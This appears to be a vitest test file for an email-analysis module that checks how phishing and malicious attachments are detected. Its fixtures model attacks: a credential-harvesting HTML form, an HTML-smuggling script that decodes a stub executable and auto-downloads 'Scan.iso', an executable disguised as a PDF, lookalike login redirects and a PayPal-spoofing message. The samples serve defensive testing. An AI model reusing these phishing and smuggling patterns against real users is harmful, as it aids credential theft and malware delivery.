/** What a mail carries is opened where a reader is there, and else the answer says that it was not. */
import { expect, test } from 'vitest';
import { analyzeEmail, checkAuthentication, parseEmail } from '../../../analysis/email/index.ts';

interface Part {
  name?: string;
  type: string;
  content: string | Uint8Array;
}

/** A mail with the given attachments, or the same mail around one part of the text. */
function mailWith(parts: readonly Part[], text = 'See the attachment.', headers = ''): Uint8Array {
  const attached = parts.map(({ name, type, content }) => {
    const disposition = name === undefined ? '' : `Content-Disposition: attachment; filename="${name}"\r\n`;
    const body = Buffer.from(content).toString('base64').replace(/.{76}/g, '$&\r\n');
    return `--b\r\nContent-Type: ${type}\r\n${disposition}Content-Transfer-Encoding: base64\r\n\r\n${body}\r\n`;
  });
  return Buffer.from(
    `${headers}From: "Ann" <ann@example.com>\r\nTo: <reader@example.org>\r\nSubject: Hello\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n` +
      `--b\r\nContent-Type: text/plain\r\n\r\n${text}\r\n${attached.join('')}--b--\r\n`,
  );
}

async function judge(bytes: Uint8Array) {
  const reading = await parseEmail(bytes, { name: 'mail' });
  if (!reading.ok) throw new Error(reading.reason);
  return analyzeEmail(reading.mail, await checkAuthentication(bytes));
}
const rules = ({ findings }: Awaited<ReturnType<typeof judge>>) => findings.map(({ rule }) => rule);
const gaps = ({ not_checked }: Awaited<ReturnType<typeof judge>>) =>
  not_checked.map(({ what }) => what).filter((what) => what.startsWith('content of'));

const FORM = '<h2>Sign in</h2><form action="https://collect.example.net/p"><input name=u><input type=password></form>';
const SMUGGLER = `<script>var a=Uint8Array.from(atob("${'TVqQAAMA'.repeat(20)}"),c=>c.charCodeAt(0));var l=document.createElement('a');l.href=URL.createObjectURL(new Blob([a]));l.download='Scan.iso';l.click()</script>`;

test.each([
  ['a page that asks for a password', { name: 'voice.htm', type: 'text/html', content: FORM }, 'attached_password'],
  [
    'the same in UTF-16',
    { name: 'v.htm', type: 'text/html', content: Buffer.from(FORM, 'utf16le') },
    'attached_password',
  ],
  [
    'a page under another kind',
    { name: 'v.dat', type: 'application/octet-stream', content: `<html>${FORM}` },
    'attached_password',
  ],
  [
    'a page that puts a file together',
    { name: 'scan.html', type: 'text/html', content: SMUGGLER },
    'attached_smuggling',
  ],
  [
    'a drawing that does',
    { name: 's.svg', type: 'image/svg+xml', content: `<svg xmlns="http://www.w3.org/2000/svg">${SMUGGLER}</svg>` },
    'attached_smuggling',
  ],
  [
    'a program called a document',
    { name: 'Angebot.pdf', type: 'application/pdf', content: 'MZ\x90\0\x03\0' },
    'attachment_hidden',
  ],
])('%s is malicious, in an attachment as in the text', async (_, part, rule) => {
  const found = await judge(mailWith([part]));
  expect(rules(found)).toContain(rule);
  expect(found.verdict).toBe('malicious');
  expect(found.findings.find((finding) => finding.rule === rule)?.evidence[0]?.locator).toMatch(/^attachment 1/);
});

test('where an attached page or an invitation sends its reader is judged and is an indicator', async () => {
  const url = 'https://login.microsoftonline.com.notice.example.net/auth';
  const ics = `BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:Your mailbox will be suspended\r\nDESCRIPTION:Verify: ${url.slice(0, 30)}\r\n ${url.slice(30)}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`;
  for (const part of [
    { type: 'text/calendar; method=REQUEST', content: ics },
    { name: 'a.html', type: 'text/html', content: `<script>location.href="${url}"</script>` },
    { name: 'a.html', type: 'text/html', content: `<meta http-equiv=refresh content="0;url=${url}">` },
    { name: 'note.txt', type: 'text/plain', content: `see ${url}` },
  ]) {
    const found = await judge(mailWith([part]));
    expect(rules(found)).toContain('link_lookalike');
    const reading = await parseEmail(mailWith([part]));
    expect(reading.ok && reading.mail.links.map((link) => link.url)).toContain(url);
  }
});

test('a page inside the address of a link is read like one that is attached', async () => {
  const address = `data:text/html;base64,${Buffer.from(FORM).toString('base64')}`;
  const found = await judge(
    Buffer.from(
      `From: a@example.com\r\nTo: b@example.org\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n<a href="${address}">Document</a>`,
    ),
  );
  expect(rules(found)).toEqual(expect.arrayContaining(['link_data', 'attached_password']));
  expect(found.verdict).toBe('malicious');
});

const PHISH = Buffer.from(
  'From: "PayPal Service" <help@billing.example.com>\r\nTo: <reader@example.org>\r\nSubject: Your account is suspended\r\nContent-Type: text/html\r\n\r\n<a href="http://192.0.2.7/login">https://www.paypal.com/</a>',
);

test('an attached mail is judged like one that came by itself, at its place, however deep within the bounds', async () => {
  const attach = (bytes: Uint8Array) => mailWith([{ name: 'fw.eml', type: 'message/rfc822', content: bytes }]);
  const alone = await judge(PHISH);
  const once = await judge(attach(PHISH));
  expect(once).toMatchObject({ verdict: alone.verdict, confidence: alone.confidence, severity: alone.severity });
  expect(once.findings[0]!.evidence[0]!.locator).toMatch(/^attachment 1, /);
  expect(once.iocs).toContainEqual({ type: 'ip', value: '192.0.2.7' });
  expect((await judge(attach(attach(PHISH)))).verdict).toBe(alone.verdict);
  let deep: Uint8Array = PHISH;
  for (let depth = 0; depth < 8; depth += 1) deep = attach(deep);
  expect((await judge(deep)).verdict).toBe('inconclusive');
});

test.each(['message/rfc822', 'message/global'])(
  'a mail forwarded in the text (%s) is judged by its own headers, links and attachments, and the finding says where',
  async (type) => {
    const voice = mailWith([{ name: 'voice.htm', type: 'text/html', content: FORM }], 'http://192.0.2.7/login');
    const inner = Buffer.from(voice)
      .toString()
      .replace('"Ann" <ann@example.com>', '"PayPal Service" <help@billing.example.com>');
    const outer = await parseEmail(mailWith([{ type, content: inner }], 'Is this genuine?'));
    expect(outer).toMatchObject({
      mail: {
        facts: { from_domain: 'example.com', urls: 0, attachments: [], password_inputs: 0 },
        body: expect.arrayContaining(['Is this genuine?']) as string[],
        messages: [
          { locator: 'part 1', mail: { facts: { from_domain: 'billing.example.com', url_hosts: ['192.0.2.7'] } } },
        ],
      },
    });
    const found = await judge(mailWith([{ type, content: inner }], 'Is this genuine?'));
    expect(found.verdict).toBe('malicious');
    expect(rules(found)).toContain('attached_password');
    for (const { title, evidence } of found.findings) {
      expect(title).toMatch(/^The forwarded mail in part 1: /);
      expect(evidence[0]?.locator).toMatch(/^part 1, /);
    }
    expect((await judge(mailWith([{ type, content: mailWith([]) }], 'Is this genuine?'))).verdict).toBe('benign');
  },
);

test.each([
  ['letter.pdf', 'application/pdf', '%PDF-1.7'],
  ['list.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', 'PK\x03\x04'],
  ['all.zip', 'application/zip', 'PK\x03\x04'],
  ['code.png', 'image/png', Buffer.from('89504e470d0a1a0a', 'hex')],
])('what nobody opens here is said, and nothing is accused: %s', async (name, type, content) => {
  const found = await judge(mailWith([{ name, type, content }]));
  expect(found).toMatchObject({ verdict: 'inconclusive', severity: 'info', confidence: 0 });
  expect(gaps(found)).toEqual(['content of attachment 1']);
});

test('a picture without a name is a part that nobody opened; a signature and a plain report are no gap', async () => {
  const picture = Buffer.from('89504e470d0a1a0a', 'hex');
  expect(gaps(await judge(mailWith([{ type: 'image/png', content: picture }])))).toEqual(['content of part 1']);
  const found = await judge(
    mailWith([
      { name: 'smime.p7s', type: 'application/pkcs7-signature', content: 'x' },
      {
        name: 'report.html',
        type: 'text/html',
        content: '<table><tr><td>ok</td></tr></table><script>document.title="done"</script>',
      },
      { name: 'fix.patch', type: 'text/x-patch', content: '--- a\n+++ b\n' },
    ]),
  );
  expect(found.verdict).toBe('benign');
  expect(gaps(found)).toEqual([]);
});

test('many attachments are opened up to a bound, and the rest is counted', async () => {
  const crowd = Array.from({ length: 150 }, (_, index) => ({ name: `${index}.txt`, type: 'text/plain', content: 'x' }));
  const found = await judge(mailWith(crowd));
  expect(found.verdict).toBe('inconclusive');
  expect(gaps(found).at(-1)).toBe('content of 30 more attachments');
});

test('a document with macros whose text asks to enable them is flagged', async () => {
  const part = { name: 'R.docm', type: 'application/octet-stream', content: 'PK\x03\x04' };
  expect((await judge(mailWith([part], 'Bitte Makros aktivieren'))).verdict).toBe('suspicious');
  expect((await judge(mailWith([part], 'Please enable content to read it'))).verdict).toBe('suspicious');
  expect((await judge(mailWith([part], 'The content of the macro list'))).verdict).toBe('inconclusive');
});
